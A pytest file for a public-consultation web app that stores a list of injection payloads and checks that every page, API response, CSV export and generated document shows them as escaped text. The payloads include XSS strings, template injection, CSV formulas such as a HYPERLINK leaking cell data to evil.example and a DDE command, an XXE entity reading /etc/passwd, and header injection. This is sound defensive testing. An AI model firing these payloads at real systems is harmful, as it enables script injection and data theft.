"""Whatever text people store, every output shows it as text: nothing runs, nothing breaks, nothing is lost.

The forms' side is tested in test_naughty_strings.py. Here the texts are stored as given, bypassing
the cleaning the forms do (as an import or a future code path might), and then every output is read
back: public and staff pages, the JSON API, the open data (CSV, JSON) and the input documents
(Markdown, DOCX, PDF). Each test collects every failure, so one run names them all.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import shutil
import subprocess
import zipfile
import zlib
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from markupsafe import escape
from sqlalchemy import select
from summaries_fixtures import (  # noqa: F401
    SECRETS,
    Seeded,
    add_response,
    download,
    secretariat_fixture,
    seeded_fixture,
)

from consult.models import (
    Consultation,
    ConsultationStatus,
    ConsultationTranslation,
    Meeting,
    Question,
    QuestionTranslation,
    Role,
    Submission,
    SubmissionStatus,
    User,
)
from consult.moderation.intake import screen_submission

LONG_WORD = ("Antidisestablishmentarianism" * 400)[:10_000]
UNPUBLISHED = "unpublished-kiwi"  # marks every text that must never leave the moderators' pages

# Script injection, template injection, Markdown, CSV formulas, XML breakers, invisible and
# direction controls, header injection: one of each kind of trouble, as someone might type it.
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">javascript:alert(1)</a>',
    "</textarea><script>alert(1)</script>",
    "</title></bdi></p><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<a href="https://evil.example/">https link</a>',
    "{{7*7}} {{ config }} {{ self.__init__.__globals__ }}",
    "{% raw %}{{ 7*7 }}{% endraw %} {% raw %}",
    "${7*7} #{7*7} <%= 7*7 %> %(title)s %s {0}",
    "[click](javascript:alert(1))",
    "[click]( javascript:alert(1) 'title')",
    "![x](http://evil.example/x.png)",
    "<https://evil.example/> <javascript:alert(1)> www.evil.example",
    '<iframe src="javascript:alert(1)"></iframe> in Markdown',
    "# Heading\n## Another heading\n- item\n* item\n1. one\n2) two",
    "Setext heading\n===\nand another\n---",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b | c",
    "```\nfenced code\n```",
    "    indented code",
    "`inline` \\` \\\\ \\*not bold\\* \\[x\\] ends with a backslash\\",
    "***bold*** _em_ ~~strike~~ __under__ <b>b</b>",
    "> quote\n>> nested\n\n---\n***\n___",
    "[ref]: https://evil.example/\n[ref]",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#0; &#x202e; &#60;script&#62;",
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "]]><![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "".join(map(chr, range(0x20))) + "\x7f\x85\x9b control characters",
    "nul\x00byte\x00",
    "lone \ud800 surrogate \udfff",
    "\ufffe\uffff noncharacters",
    "bidi \u202egnp.exe\u202c \u2066isolate\u2069 \u200fmark",
    "zero\u200bwidth\u200c\u200d\ufeffjoiners\u2060",
    LONG_WORD,
    "line\r\nSet-Cookie: evil=1\r\n\r\n<script>alert(1)</script>",
    "%0d%0aSet-Cookie:%20evil=1 %3Cscript%3E",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e \\u003cscript\\u003e",
    "\"'`;-- /* */ \\",
    "   leading and trailing spaces   ",
]


def _storable(text: str, dialect: str) -> str:
    """The text as a database can hold it: no lone surrogates (no UTF-8 for them), no NUL in PostgreSQL."""
    text = text.encode("utf-8", "ignore").decode("utf-8") if re.search("[\ud800-\udfff]", text) else text
    return text.replace("\x00", "") if dialect == "postgresql" else text


def _fail(failures: list[str], where: str, text: str, problem: str) -> None:
    failures.append(f"{where}: {text[:80]!r}: {problem}")


# --- reading outputs back ------------------------------------------------------------------


class _Page(HTMLParser):
    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


# Elements no page of consult has, which a payload would bring: seeing one means markup got through.
INJECTED_ELEMENTS = {
    "iframe", "img", "image", "object", "embed", "frame", "frameset", "base", "math", "mglyph", "xmp", "plaintext",
    "noscript", "template", "applet", "marquee", "audio", "video", "source", "b", "x", "scr",
}  # fmt: skip
# The only scripts a page of consult loads: its own files, each once.
OWN_SCRIPTS = {"/static/time.js", "/static/answer.js", "/static/desk.js"}
UNSAFE_SCHEMES = re.compile(r"^\s*(?:javascript|vbscript|data):", re.IGNORECASE)
UNESCAPED = re.compile(r"<(?:script>alert|img src=x|iframe|svg onload|style>body)", re.IGNORECASE)


def html_problems(page: str, *, styles: int = 0) -> list[str]:
    """What in ``page`` is markup a payload brought in; ``styles`` <style> elements are the page's own."""
    problems = [f"unescaped {m.group(0)!r}" for m in UNESCAPED.finditer(page)]
    parsed = _Page(page)
    scripts = [attrs for tag, attrs in parsed.elements if tag == "script"]
    sources = [attrs.get("src") for attrs in scripts]
    if not set(sources) <= OWN_SCRIPTS or len(set(sources)) < len(sources):
        problems.append(f"script elements {scripts}")
    if sum(tag == "style" for tag, _attrs in parsed.elements) > styles:
        problems.append("an injected <style>")
    for tag, attrs in parsed.elements:
        if tag in INJECTED_ELEMENTS:
            problems.append(f"injected <{tag} {attrs}>")
        for name, value in attrs.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "autofocus"):
                problems.append(f"injected attribute {name}={value!r} on <{tag}>")
            if name in ("href", "src", "action", "xlink:href") and UNSAFE_SCHEMES.match(value or ""):
                problems.append(f"<{tag} {name}={value!r}>")
        # Only descriptions' links, made safe, lead elsewhere.
        href = attrs.get("href") or "" if tag == "a" else ""
        foreign = href.startswith(("http:", "https:", "//")) and not href.startswith("http://localhost/")
        if foreign and "nofollow" not in (attrs.get("rel") or ""):
            problems.append(f"a foreign link {attrs}")
    return problems


def check_page(failures: list[str], where: str, response, shown=(), hidden=(), *, styles: int = 0) -> str:
    """The page answered, holds no injected markup, shows each of ``shown`` escaped and none of ``hidden``."""
    if response.status_code >= 500:
        failures.append(f"{where}: status {response.status_code}")
        return ""
    page = response.get_data(as_text=True)
    failures.extend(f"{where}: {problem}" for problem in html_problems(page, styles=styles))
    text_only = None
    for text in shown:
        if str(escape(text)) in page:
            continue
        # Moderators' pages mark personal information inside a text: it is whole once the marks are read away.
        text_only = text_only if text_only is not None else "".join(_Page(page).text)
        if text not in text_only:
            _fail(failures, where, text, "not shown (escaped)")
    for text in hidden:
        if text in page:
            _fail(failures, where, text, "shown, but must not be")
    return page


def json_strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in json_strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in json_strings(v)]
    return []


def check_json(failures: list[str], where: str, content: bytes | str, shown=(), hidden=()) -> dict:
    """Valid JSON in which each of ``shown`` is one whole string, exactly as stored."""
    try:
        data = json.loads(content)
    except ValueError as error:
        failures.append(f"{where}: not JSON ({error})")
        return {}
    strings = set(json_strings(data))
    failures.extend(f"{where}: {t[:80]!r} does not round-trip" for t in shown if t not in strings)
    blob = "\n".join(strings)
    failures.extend(f"{where}: {t[:80]!r} is there" for t in hidden if t in blob)
    return data


# Characters XML 1.0 cannot hold (its Char production): a DOCX drops them, and nothing else.
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def words(text: str) -> str:
    return " ".join(text.split())


def docx_text(failures: list[str], where: str, content: bytes) -> str:
    from docx import Document

    try:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.endswith(".xml") or name.endswith(".rels"):
                    ElementTree.fromstring(archive.read(name))
        document = Document(io.BytesIO(content))
    except Exception as error:  # a broken file, whatever the library says about it
        failures.append(f"{where}: not a valid DOCX ({error!r})")
        return ""
    parts = [document.core_properties.title]
    parts += [p.text for p in document.paragraphs]
    for table in document.tables:
        parts.extend(cell.text for row in table.rows for cell in row.cells)
    return "\n".join(parts)


PAGE_FOOTER = re.compile(r"^\s*\d+ / \d+\s*$", re.MULTILINE)  # "3 / 29", amid a text that runs over a page


ACTIVE_PDF = re.compile(rb"/(?:JavaScript|JS|Launch|SubmitForm)\b|/URI\s*\(\s*(?:javascript|data):", re.I)
PDF_OBJECT = re.compile(rb"\d+\s+\d+\s+obj\b(.*?)\bendobj", re.S)


def pdf_dictionaries(content: bytes) -> bytes:
    """Where a PDF's actions could live: every object outside its stream data, and the unpacked object
    streams that hold more objects; never the font or image data, whose bytes may spell anything."""
    parts = []
    for found in PDF_OBJECT.finditer(content):
        head, is_stream, data = found.group(1).partition(b"stream")
        parts.append(head)
        if is_stream and b"/ObjStm" in head:
            data = data.lstrip(b"\r\n")
            parts.append(zlib.decompressobj().decompress(data) if b"/FlateDecode" in head else data)
    return b"\n".join(parts)


def pdf_text(failures: list[str], where: str, content: bytes, tmp_path) -> str:
    pdftotext = shutil.which("pdftotext")
    assert pdftotext, "pdftotext (poppler-utils) is needed to read the PDF back"
    if not content.startswith(b"%PDF-") or b"%%EOF" not in content[-1024:]:
        failures.append(f"{where}: not a PDF")
        return ""
    if ACTIVE_PDF.search(pdf_dictionaries(content)):
        failures.append(f"{where}: an active PDF object")
    path = tmp_path / "document.pdf"
    path.write_bytes(content)
    # -layout: lines as laid out, without joining a line ending in "-" to the next as a hyphenated word.
    result = subprocess.run([pdftotext, "-layout", "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True)
    if result.returncode != 0 or "Error" in result.stderr:
        failures.append(f"{where}: pdftotext says {result.stderr.strip()[:200]!r}")
    return PAGE_FOOTER.sub("", result.stdout)


# --- the texts, stored everywhere ----------------------------------------------------------


@dataclass
class Stored:
    """The texts as stored, by where they went; ``texts`` are the payloads and the naughty strings."""

    texts: list[str]
    payloads: list[str]
    consultations: list[Consultation] = field(default_factory=list)
    responses: dict[int, str] = field(default_factory=dict)  # approved, by id: their published text
    pseudonyms: list[str] = field(default_factory=list)
    unpublished: list[str] = field(default_factory=list)


_counter = itertools.count(1)


def _user(db, pseudonym: str, **profile) -> User:
    """A participant who cannot log in (as imported ones), named exactly ``pseudonym``."""
    user = User(pseudonym=pseudonym, pseudonym_key=f"injection {next(_counter)}", role=Role.PARTICIPANT, **profile)
    db.session.add(user)
    return user


@pytest.fixture
def stored(db, seeded: Seeded, naughty_strings) -> Stored:
    """Every payload and naughty string as the title, description, question, translation and meeting of a
    consultation of its own, as a pseudonym, and as an approved response to the seeded consultation;
    the payloads also as responses still waiting (marked ``UNPUBLISHED``)."""
    dialect = db.engine.dialect.name
    payloads = [_storable(t, dialect) for t in PAYLOADS]
    texts = [t for t in dict.fromkeys(payloads + [_storable(t, dialect) for t in naughty_strings]) if t.strip()]
    result = Stored(texts, payloads)
    closes_at = seeded.consultation.closes_at
    # Every payload, and a sample of the naughty strings, names a consultation of its own.
    for n, text in enumerate(payloads + texts[len(payloads) :: 7]):
        meeting = Meeting(title=text[:200], starts_at=closes_at + timedelta(days=30), venue=text[:200])
        consultation = Consultation(
            slug=f"injection-{n}", title=text[:200], description=text, opens_at=closes_at - timedelta(days=1),
            closes_at=closes_at, status=ConsultationStatus.PUBLISHED, meeting=meeting,
            questions=[Question(position=1, prompt=text, max_length=1000)],
        )  # fmt: skip
        db.session.add(consultation)
        db.session.flush()
        db.session.add(ConsultationTranslation(consultation=consultation, language="fr", title=f"fr {text}"[:200],
                                               description=f"fr {text}"))  # fmt: skip
        db.session.add(QuestionTranslation(question=consultation.questions[0], language="fr", prompt=f"fr {text}"))
        result.consultations.append(consultation)
    q1, q2 = seeded.consultation.questions
    for text in texts:
        author = _user(db, text[:40], age_band="16-17", country="KE")
        db.session.flush()
        result.pseudonyms.append(author.pseudonym)
        result.responses[add_response(db, q2, author, text, SubmissionStatus.APPROVED).id] = text
    for text in payloads:
        marked = f"{text} {UNPUBLISHED}"
        pending = add_response(db, q1, None, marked, SubmissionStatus.PENDING, published=marked)
        screen_submission(pending)
        result.unpublished.append(marked)
    db.session.commit()
    return result


# --- public pages, the API and the open data -----------------------------------------------

FORMULA_START = tuple("=+-@＝＋－＠")


def _formula_problems(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting, maybe after white space, with a formula character."""
    return [
        f"csv: cell {cell[:60]!r} would run as a formula"
        for row in rows
        for cell in row
        if cell.lstrip().startswith(FORMULA_START) or cell.startswith(("\t", "\r", "\n"))
    ]


def _neutralised(cell: str, text: str) -> bool:
    """The cell is the text, or the text behind the apostrophe that keeps a spreadsheet from running it."""
    return cell == text or (cell == "'" + text and (text.lstrip().startswith(FORMULA_START) or text[:1] in "\t\r\n"))


def _check_every_page(failures: list[str], client, slug: str, shown: list[str]) -> None:
    """Each page of the consultation's published answers is sound, and together they show all of ``shown``.

    The seeded "hidden" response is approved and taken down at once, a state only the fixture makes (a
    moderator's approval clears hidden_at); like the summaries, API and open data, the page leaves it out.
    """
    hidden = [UNPUBLISHED, *SECRETS.values()]
    pages = []
    for number in itertools.count(1):
        url = f"/consultations/{slug}?page={number}"
        response = client.get(url)
        if response.status_code == 404:
            break
        pages.append(check_page(failures, url, response, hidden=hidden))
    everything = "\n".join(pages)
    for text in shown:
        if str(escape(text)) not in everything:
            _fail(failures, f"/consultations/{slug}", text, "not shown (escaped) on any page")


def test_public_pages_api_and_open_data_show_every_text_as_stored(app, client, db, stored: Stored, seeded: Seeded):
    failures: list[str] = []
    hidden = [UNPUBLISHED, *SECRETS.values()]
    titles = [c.title for c in stored.consultations]

    check_page(failures, "/", client.get("/"), shown=titles)
    french = app.test_client()
    french.set_cookie("consult_lang", "fr")
    check_page(failures, "/ in French", french.get("/"), shown=[f"fr {t}"[:200] for t in titles])
    for consultation in stored.consultations:
        url = f"/consultations/{consultation.slug}"
        meeting = consultation.meeting.title
        check_page(failures, url, client.get(url), shown=[consultation.title, consultation.questions[0].prompt,
                                                          meeting])  # fmt: skip
        translated = [f"fr {consultation.title}"[:200], f"fr {consultation.questions[0].prompt}", meeting]
        check_page(failures, f"{url} in French", french.get(url), shown=translated)

    # The seeded consultation shows every approved response, page by page, and its author.
    slug = seeded.consultation.slug
    _check_every_page(failures, client, slug, [*stored.responses.values(), *stored.pseudonyms])

    # The API gives each text back exactly, and descriptions only as the small safe HTML.
    listing = check_json(failures, "/api/v1/consultations", client.get("/api/v1/consultations").data,
                         shown=titles + [c.meeting.title for c in stored.consultations])  # fmt: skip
    assert len(listing["consultations"]) == len(stored.consultations) + 1
    for consultation in stored.consultations:
        url = f"/api/v1/consultations/{consultation.slug}"
        data = check_json(failures, url, client.get(url).data,
                          shown=[consultation.title, consultation.questions[0].prompt])  # fmt: skip
        problems = html_problems(data.get("description_html", ""))
        failures.extend(f"{url}: description_html: {problem}" for problem in problems)
    api_texts, page = [], 1
    while page:
        url = f"/api/v1/consultations/{slug}/responses?per_page=500&page={page}"
        data = check_json(failures, url, client.get(url).data, hidden=hidden)
        api_texts += [r["text"] for r in data["responses"]]
        page = page + 1 if data["next"] else None
    failures.extend(f"api: {t[:80]!r} missing" for t in stored.responses.values() if t not in api_texts)

    # The open data: every text back exactly, but for the apostrophe before a formula.
    content = client.get(f"/archive/{slug}/data.csv").get_data(as_text=True)
    licence, rest = content.split("\n", 1)
    assert licence.startswith("# ")
    rows = list(csv.reader(io.StringIO(rest, newline="")))
    failures.extend(_formula_problems(rows))
    header = rows[0]
    by_id = {row[header.index("response_id")]: row for row in rows[1:]}
    for response_id, text in stored.responses.items():
        row = by_id.get(str(response_id))
        if row is None or len(row) != len(header):
            _fail(failures, "csv", text, "no row, or a broken one")
        elif not _neutralised(row[header.index("published_text")], text):
            _fail(failures, "csv", text, f"came back as {row[header.index('published_text')][:80]!r}")
    failures.extend(f"csv: {t[:80]!r} is there" for t in hidden if t in content)
    data = check_json(failures, "data.json", client.get(f"/archive/{slug}/data.json").data, hidden=hidden)
    json_texts = {r["response_id"]: r["published_text"] for r in data["responses"]}
    failures.extend(f"data.json: R{i} {t[:80]!r}" for i, t in stored.responses.items() if json_texts.get(i) != t)

    # Addresses carried into a redirect never split its headers.
    for typed in stored.payloads:
        for url in ("/language", "/login"):
            response = client.get(url, query_string={"lang": "fr", "next": typed})
            headers = str(response.headers)
            if response.status_code >= 500 or "evil" in headers or "\r\n\r\n<" in headers:
                _fail(failures, url, typed, f"status {response.status_code}, headers {headers[:200]!r}")

    assert not failures, f"{len(failures)} problems:\n" + "\n".join(failures)


# --- summaries and their documents ---------------------------------------------------------


def _markdown_problems(markdown: str, view, expected: list[str]) -> list[str]:
    """What a CommonMark renderer (raw HTML allowed, as the most permissive reader) would do with the payloads."""
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("commonmark").enable("table")
    tokens = renderer.parse(markdown)
    problems = [f"md: {problem}" for problem in html_problems(renderer.render(markdown))]
    inline = [child for token in tokens for child in (token.children or [])]
    # The document's own: the header block's line breaks, each quote's permalink, an English rendering's span.
    allowed_inline = {"text", "strong_open", "strong_close", "softbreak", "hardbreak", "link_open", "link_close"}
    problems += [f"md: a {t.type} token {t.content[:60]!r}" for t in inline if t.type not in allowed_inline
                 and not (t.type == "html_inline" and t.content in ('<span lang="en">', "</span>"))]  # fmt: skip
    permalink = re.compile(rf"^https?://[^/]+/consultations/{re.escape(view.consultation.slug)}/responses/\d+$")
    problems += [f"md: a link to {t.attrs.get('href')!r}" for t in inline
                 if t.type == "link_open" and not permalink.match(str(t.attrs.get("href")))]  # fmt: skip
    blocks = ("html_block", "fence", "code_block", "hr")
    problems += [f"md: a {t.type} token {t.content[:60]!r}" for t in tokens if t.type in blocks]
    # The structure is the document's own: every payload stayed inside its heading, item, quote or cell.
    opened = [token.tag for token in tokens if token.nesting == 1]
    themes = sum(len(q.themes) for q in view.questions)
    quotes = sum(len(t.quotes) for q in view.questions for t in q.themes)
    wanted = {"h1": 1, "h2": 9, "h3": 2 * len(view.questions), "h4": themes, "table": 3, "blockquote": quotes,
              "li": 2 + len(view.key_messages) + len(view.annex)}  # fmt: skip
    problems += [f"md: {opened.count(tag)} <{tag}>, not {n}" for tag, n in wanted.items() if opened.count(tag) != n]
    text = words("".join(_Page(renderer.render(markdown)).text))
    problems += [
        f"md: {t[:80]!r} not shown as text" for t in expected if words(t.replace("\x00", "\ufffd")) not in text
    ]
    return problems


def _ascii(text: str) -> bool:
    return all(c.isascii() and (c.isprintable() or c.isspace()) for c in text)


def _stand_in_vectors(db, texts: dict[int, str]) -> None:
    import numpy as np

    from consult.moderation.models import ResponseVector
    from consult.summaries.vectors import DIMENSIONS, MODEL_NAME, text_hash

    vectors = np.random.default_rng(7).normal(size=(len(texts), DIMENSIONS))
    vectors = (vectors / np.linalg.norm(vectors, axis=1, keepdims=True)).astype(np.float16)
    db.session.add_all(
        ResponseVector(submission_id=i, model=MODEL_NAME, text_hash=text_hash(t), language="en", vector=v.tobytes())
        for (i, t), v in zip(texts.items(), vectors, strict=True)
    )


def test_summaries_and_their_documents_show_every_text_as_stored(app, client, db, login, stored: Stored,
                                                                   seeded: Seeded, tmp_path):  # fmt: skip
    from consult.summaries.generation import generate_summary
    from consult.summaries.pdf import render_html
    from consult.summaries.reading import summary_view
    from consult.summaries.versions import version

    failures: list[str] = []
    hidden = [UNPUBLISHED, *SECRETS.values()]
    consultation = seeded.consultation
    slug = consultation.slug
    q1, q2 = consultation.questions
    consultation.title = '"><img src=x onerror=alert(1)> {{7*7}} ]]>'
    q1.prompt = "</textarea><script>alert(1)</script>\n# not a heading | not a cell"
    q2.prompt = "[click](javascript:alert(1)) ![x](http://evil.example/x.png) `code` \\"
    consultation.meeting = Meeting(
        title="<script>alert(1)</script>\r\nSet-Cookie: x=1",
        starts_at=consultation.closes_at + timedelta(days=7),
        venue="=1+1 <b>venue</b>",
    )
    # Stand-in sentence vectors spare the encoder (seconds for the long word alone): themes are not what this
    # test is about, and the seeded responses still get real ones.
    _stand_in_vectors(db, stored.responses)
    db.session.commit()
    first = generate_summary(consultation, seeded.secretariat, {q.id: 30 for q in consultation.questions})
    db.session.commit()

    # The secretariat labels every theme, picks the payloads as quotes and writes the rest, with the form.
    login(seeded.secretariat)
    edit_url = f"/summaries/{slug}/v{first.version}/edit"
    check_page(failures, edit_url, client.get(edit_url))
    typed = [_storable(t, "sqlite") for t in PAYLOADS]  # NUL included: a form can send it to PostgreSQL too
    payloads = itertools.cycle(typed)
    form = {
        "document_number": '"><script>alert(1)</script>',
        "intro": "\n\n".join(t for t in typed if t != LONG_WORD)[:5000],
        "key_messages": "\n".join(itertools.islice((t for t in typed if len(t.splitlines()) == 1), 12)),
    }
    for question in first.content["questions"]:
        for theme in question["themes"]:
            ours = [r["id"] for r in theme["responses"] if r["id"] in stored.responses][:5]
            form[f"label-{theme['key']}"] = next(payloads)
            form[f"add-{theme['key']}"] = " ".join(f"R{n}" for n in ours or theme["quotes"])
    edited = client.post(edit_url, data=form)
    assert edited.status_code == 303, edited.get_data(as_text=True)[:2000]
    summary = version(consultation, first.version + 1)
    assert client.post(f"/summaries/{slug}/v{summary.version}/publish", data={"confirm": "yes"}).status_code == 303
    db.session.refresh(summary)
    assert summary.is_published

    content = summary.content
    labels = [theme["label"] for question in content["questions"] for theme in question["themes"]]
    assert len(labels) > 30
    view = summary_view(summary, with_annex=True)
    quotes = [quote.text for question in view.questions for theme in question.themes for quote in theme.quotes]
    annex = [response.text for response in view.annex]
    assert set(stored.responses.values()) <= set(annex)
    written = [content["intro"], *content["key_messages"], content["document_number"]]
    own = [consultation.title, q1.prompt, q2.prompt]
    on_pages = own + labels + quotes + written[:-1]

    number = summary.version
    check_page(failures, "/archive", client.get("/archive"), shown=[consultation.title, consultation.meeting.title])
    for url in (f"/archive/{slug}/v{number}", f"/summaries/{slug}/v{number}"):
        check_page(failures, url, client.get(url), shown=on_pages, hidden=hidden, styles=0)
    check_page(failures, f"/summaries/{slug}/v{number}/edit", client.get(f"/summaries/{slug}/v{number}/edit"),
               shown=[*labels, *quotes, *written], hidden=hidden)  # fmt: skip
    check_page(failures, f"/summaries/{slug}/", client.get(f"/summaries/{slug}/"), shown=[consultation.title])
    check_json(failures, "api summary", client.get(f"/api/v1/consultations/{slug}/summary").data,
               shown=[consultation.title, *labels, *quotes, *written[:-1]], hidden=hidden)  # fmt: skip

    # The input document, as HTML for the PDF, as Markdown, DOCX and PDF.
    in_documents = [*own, consultation.meeting.title, *labels, *quotes, *annex, *written]
    with app.test_request_context():
        document = render_html(view)
    failures.extend(f"document.html: {p}" for p in html_problems(document, styles=1))
    failures.extend(f"document.html: {t[:80]!r} not shown" for t in in_documents if str(escape(t)) not in document)

    markdown = download(client, f"/archive/{slug}/v{number}/document.md").get_data(as_text=True)
    failures.extend(_markdown_problems(markdown, view, in_documents))
    failures.extend(f"md: {t!r} is there" for t in hidden if t in markdown)

    docx = docx_text(failures, "docx", download(client, f"/archive/{slug}/v{number}/document.docx").data)
    docx_words = words(docx)
    for text in in_documents:
        if words(NOT_XML.sub("", text)) not in docx_words:
            _fail(failures, "docx", text, "not there as text")
    failures.extend(f"docx: {t!r} is there" for t in hidden if t in docx)

    pdf = pdf_text(failures, "pdf", download(client, f"/archive/{slug}/v{number}/document.pdf").data, tmp_path)
    # A text long enough to run over a page break is read with the running header and footer in between.
    furniture = re.compile(r"Page \d+ of \d+|" + re.escape(re.sub(r"<[^>]*>", "", content["document_number"])))
    squashed = "".join(furniture.sub("", pdf).split()) + "\0" + "".join(pdf.split())
    # Text extraction reorders right-to-left runs and drops what has no glyph: plain ASCII texts must all be there.
    for text in in_documents:
        if _ascii(text) and "".join(NOT_XML.sub("", text).split()) not in squashed:
            _fail(failures, "pdf", text, "not there as text")
    failures.extend(f"pdf: {t!r} is there" for t in hidden if t in pdf)

    assert not failures, f"{len(failures)} problems:\n" + "\n".join(failures)


# --- staff pages, and what moderators and readers write -----------------------------------


def _pages_of_queue(failures: list[str], client, slug: str, shown: list[str]) -> None:
    pages, url = [], f"/moderation/consultations/{slug}"
    while url:
        page = check_page(failures, url, client.get(url))
        pages.append(page)
        following = re.search(r'href="([^"]*[?&]after=[^"]*)">', page)
        url = following.group(1).replace("&amp;", "&") if following else None
    joined = "\n".join("".join(_Page(page).text) for page in pages)
    failures.extend(f"queue: {t[:80]!r} not shown" for t in shown if t not in joined)


def test_staff_pages_and_decisions_show_every_text_as_stored(app, client, db, login, make_user, stored: Stored,
                                                             seeded: Seeded):  # fmt: skip
    from consult.moderation.events import text_hash

    failures: list[str] = []
    slug = seeded.consultation.slug
    waiting = db.session.scalars(select(Submission).where(Submission.body.in_(stored.unpublished))).all()
    assert len(waiting) == len(stored.payloads)
    moderator = make_user(Role.MODERATOR, pseudonym='Mod" onmouseover="alert(1) &lt; {{7*7}}')
    login(moderator)
    _pages_of_queue(failures, client, slug, [s.body for s in waiting])

    # Moderators open each response, then publish a redaction of it, reject it or escalate it, with a note.
    for n, submission in enumerate(waiting):
        url = f"/moderation/submissions/{submission.id}"
        check_page(failures, url, client.get(url), shown=[submission.body, *filter(None, [submission.suggested_text])])
        decision, data = ("approve", "reject", "escalate")[n % 3], {"seen": text_hash(submission.body), "then": ""}
        typed = stored.payloads[n]
        data |= {"version": "edited", "published_text": typed} if decision == "approve" else {"note": typed}
        if decision == "reject":
            data["reason"] = "other"
        response = client.post(f"{url}/{decision}", data=data)
        if response.status_code != 303:
            check_page(failures, f"{url}/{decision} {typed[:40]!r}", response)
            if response.status_code != 422 or 'role="alert"' not in response.get_data(as_text=True):
                _fail(failures, f"{url}/{decision}", typed, f"status {response.status_code}, not a clear refusal")
    db.session.expire_all()
    decided = [db.session.get(Submission, s.id) for s in waiting]
    published = [s.published_text for s in decided if s.status is SubmissionStatus.APPROVED]
    notes = [s.decision_note for s in decided if s.status is SubmissionStatus.REJECTED and s.decision_note]
    assert len(published) > len(waiting) // 4 and len(notes) > len(waiting) // 4
    for submission in decided:
        url = f"/moderation/submissions/{submission.id}"
        shown = [moderator.pseudonym]
        shown += [submission.decision_note] if submission.status is SubmissionStatus.REJECTED else []
        check_page(failures, url, client.get(url), shown=list(filter(None, shown)))
    audit = check_page(failures, "audit", client.get(f"/moderation/consultations/{slug}/audit"), shown=notes)
    assert audit
    trail = client.get(f"/moderation/consultations/{slug}/audit.csv")
    assert trail.status_code == 200
    rows = list(csv.reader(io.StringIO(trail.get_data(as_text=True).removeprefix("\ufeff"), newline="")))
    failures.extend(f"audit.{problem}" for problem in _formula_problems(rows))
    for note in notes:
        if not any(_neutralised(cell, note) for row in rows for cell in row):
            _fail(failures, "audit.csv", note, "not there")
    for page in ("/moderation/", f"/moderation/consultations/{slug}/dashboard"):
        check_page(failures, page, client.get(page), shown=[seeded.consultation.title])

    # The redactions are public now, as text; what was written under them is not.
    reader = app.test_client()
    _check_every_page(failures, reader, slug, published)

    # Participants choose a reason from a list: anything else is refused, kindly. Only accounts older
    # than a few minutes count toward a take-down.
    reporters = []
    for _n in range(app.config["REPORT_THRESHOLD"]):
        account = make_user()
        account.created_at -= timedelta(minutes=app.config["REPORT_MIN_ACCOUNT_AGE_MINUTES"] + 1)
        db.session.commit()
        browser = app.test_client()
        credentials = {"username": account.pseudonym, "password": account.password}
        assert browser.post("/login", data=credentials).status_code == 302
        reporters.append(browser)
    target = next(s for s in decided if s.status is SubmissionStatus.APPROVED)
    report_url = f"/consultations/{slug}/responses/{target.id}/report"
    check_page(failures, "report page", reporters[0].get(report_url), shown=[target.published_text])
    for typed in stored.payloads:
        response = reporters[0].post(report_url, data={"reason": typed})
        check_page(failures, f"report {typed[:40]!r}", response)
        if response.status_code != 422:
            _fail(failures, "report", typed, f"status {response.status_code}")
    for browser in reporters:
        assert browser.post(report_url, data={"reason": "personal_info"}).status_code == 303
    check_page(failures, "item taken down", client.get(f"/moderation/submissions/{target.id}"),
               shown=[target.published_text])  # fmt: skip

    # The secretariat's pages hold every title, description, question, translation and meeting.
    login(seeded.secretariat)
    meetings = [c.meeting for c in stored.consultations]
    named = [c.title for c in stored.consultations] + [m.title for m in meetings] + [m.venue for m in meetings]
    check_page(failures, "/secretariat/", client.get("/secretariat/"), shown=named)
    for consultation in stored.consultations[: len(stored.payloads)]:
        base = f"/secretariat/consultations/{consultation.id}"
        check_page(failures, f"{base}/edit", client.get(f"{base}/edit"),
                   shown=[consultation.title, consultation.description, consultation.questions[0].prompt])  # fmt: skip
        check_page(failures, f"{base}/translations/fr", client.get(f"{base}/translations/fr"),
                   shown=[f"fr {consultation.title}"[:200], f"fr {consultation.questions[0].prompt}"])  # fmt: skip
        check_page(failures, "meeting", client.get(f"/secretariat/meetings/{consultation.meeting_id}/edit"),
                   shown=[consultation.meeting.title, consultation.meeting.venue])  # fmt: skip

    assert not failures, f"{len(failures)} problems:\n" + "\n".join(failures)
